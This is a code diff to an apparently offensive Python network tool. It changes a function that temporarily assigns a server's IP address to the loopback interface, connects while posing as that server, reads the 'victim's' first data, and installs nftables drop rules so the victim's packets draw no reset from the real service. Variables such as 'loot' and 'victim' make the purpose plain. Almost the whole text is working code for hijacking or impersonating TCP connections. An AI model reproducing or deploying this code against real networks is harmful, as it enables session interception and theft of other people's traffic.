@@ -94,21 +94,28 @@ def connects_raw():
 
 def connects_with_address():
     subprocess.run(["ip", "addr", "add", f"{told.server}/32", "dev", "lo"], check=True)
+    link = connects()
     try:
-        return connects()
-    finally:
-        subprocess.run(["ip", "addr", "del", f"{told.server}/32", "dev", "lo"], check=True)
-        rules = f"""table ip quiet {{
-            chain in {{
-                type filter hook input priority -400
-                iifname "{told.link}" tcp dport {told.port} drop
-            }}
-            chain out {{
-                type filter hook output priority -400
-                ip daddr {told.server} tcp sport {told.port} drop
-            }}
-        }}"""
-        subprocess.run(["/usr/sbin/nft", "-f", "-"], input=rules.encode(), check=True)
+        # What the victim says first is acknowledged.
+        if link:
+            link.settimeout(0.3)
+            link.recv(8192)
+    except TimeoutError:
+        pass
+    # Before the address goes: a packet of the victim to the service would be answered with a reset.
+    rules = f"""table ip quiet {{
+        chain in {{
+            type filter hook input priority -400
+            iifname "{told.link}" tcp dport {told.port} drop
+        }}
+        chain out {{
+            type filter hook output priority -400
+            ip daddr {told.server} tcp sport {told.port} drop
+        }}
+    }}"""
+    subprocess.run(["/usr/sbin/nft", "-f", "-"], input=rules.encode(), check=True)
+    subprocess.run(["ip", "addr", "del", f"{told.server}/32", "dev", "lo"], check=True)
+    return link
 
 
 loot = Loot(told.role)
